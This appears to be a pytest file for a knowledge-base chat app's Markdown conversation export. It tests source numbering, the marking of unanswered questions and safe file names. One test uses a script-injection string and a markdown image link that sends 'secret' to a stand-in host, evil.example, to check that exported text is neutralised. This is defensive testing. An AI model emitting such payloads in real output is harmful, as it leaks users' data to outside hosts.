"""A conversation exported as Markdown: each question, its answer, its numbered sources with document and page;
document and model text made inert for whatever opens the file."""

from __future__ import annotations

from datetime import UTC, datetime

from streamlit_app.export import conversation_markdown, file_name, turns

AT = datetime(2026, 12, 2, 9, 30, tzinfo=UTC)
SOURCES = [
    {"n": 1, "document": "report.pdf", "page": 3, "locator": "p. 3", "score": 0.8, "text": "…"},
    {"n": 2, "document": "notes.md", "page": None, "locator": "lines 4-9", "score": 0.5, "text": "…"},
]


def test_questions_answers_and_numbered_sources_in_order():
    conversation = turns([
        ("user", "Why did the engine fail?", None, []),
        ("assistant", "The fuel ran out [1], as the notes say [2].", "llm", SOURCES),
        ("user", "And the weather?", None, []),
        ("assistant", "The passages that best answer this:\n\n- “Clear.” [1] — *report.pdf, p. 3*", "extractive",
         SOURCES[:1]),
    ])
    text = conversation_markdown("Engine failure", "Aviation", conversation, AT)
    assert text.startswith("# Engine failure\n\n*Knowledge base “Aviation” · exported from kbchat 2026-12-02 09:30 UTC*")
    first, second = text.split("## 1. Why did the engine fail?")[1].split("## 2. And the weather?")
    assert "The fuel ran out [1], as the notes say [2]." in first
    assert "**Sources**\n\n- [1] report.pdf, p. 3\n- [2] notes.md, lines 4-9" in first
    assert "“Clear.” [1]" in second and "*(extractive answer" in second and "- [1] report.pdf, p. 3" in second
    assert "notes.md" not in second


def test_a_question_without_an_answer_and_uncited_passages_say_so():
    conversation = turns([
        ("user", "First?", None, []),
        ("user", "Second?", None, []),
        ("assistant", "No idea.", "llm", [{**SOURCES[0], "cited": False}]),
    ])
    text = conversation_markdown("t", "kb", conversation, AT)
    assert "## 1. First?\n\n*(no answer)*" in text
    assert "**Passages given to the model (the answer cites none)**\n\n- [1] report.pdf, p. 3" in text


def test_document_and_model_text_is_inert_in_the_file():
    conversation = turns([
        ("user", "<script>alert(1)</script>", None, []),
        ("assistant", "See ![x](https://evil.example/p.png?q=secret) and [here](https://evil.example).\n"
                      "[1]: https://evil.example/ref", "llm", []),
    ])
    text = conversation_markdown("<b>t</b>", "kb", conversation, AT)
    assert "<script>" not in text and "<b>" not in text and "&lt;script>" in text
    assert "evil.example" not in text.replace("\\[1]: https://evil.example/ref", "")
    assert "[image: x]" in text and "and here." in text and "\\[1]:" in text


def test_file_name_is_safe():
    assert file_name("Why did the/engine fail? ../..", AT) == "kbchat-why-did-the-engine-fail-20261202-0930.md"
    assert file_name("飞机", AT) == "kbchat-conversation-20261202-0930.md"
